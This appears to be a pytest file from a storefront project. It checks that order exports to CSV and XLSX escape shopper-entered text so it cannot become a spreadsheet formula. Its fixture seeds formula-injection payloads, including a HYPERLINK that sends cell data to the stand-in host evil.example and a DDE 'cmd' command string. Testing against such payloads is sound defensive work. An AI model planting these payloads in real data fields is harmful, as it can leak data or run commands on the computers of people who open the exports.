"""Order exports: text a shopper typed can never become a spreadsheet formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from storefront.tenancy import tenant_context
from tests.web.helpers import login_staff


@pytest.fixture
def hostile_order(session, tenants):
    order = tenants.a.order
    with tenant_context(tenants.a.tenant.id):
        order.buyer_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        order.consignee = "+1+cmd|' /C calc'!A0"
        order.carrier = "-2+3"
        order.tracking_number = "\t@SUM(1+1)"
        session.flush()
    return order


def _texts(rows) -> list[str]:
    return [cell for row in rows for cell in row if isinstance(cell, str)]


def test_csv_cells_that_start_a_formula_are_escaped(client, tenants, hostile_order):
    login_staff(client, tenants.a.owner)
    body = client.get("/admin/orders/export.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body)))
    hostile = next(row for row in rows if hostile_order.number in row)
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in hostile
    assert "'+1+cmd|' /C calc'!A0" in hostile and "'-2+3" in hostile
    assert not [cell for cell in _texts(rows) if cell[:1] in "=+-@\t\r"]
    assert "877.45" in hostile  # numbers stay numbers


def test_xlsx_holds_no_formula(client, tenants, hostile_order):
    login_staff(client, tenants.a.owner)
    response = client.get("/admin/orders/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in texts
    assert not [text for text in texts if text[:1] in "=+-@\t\r"]
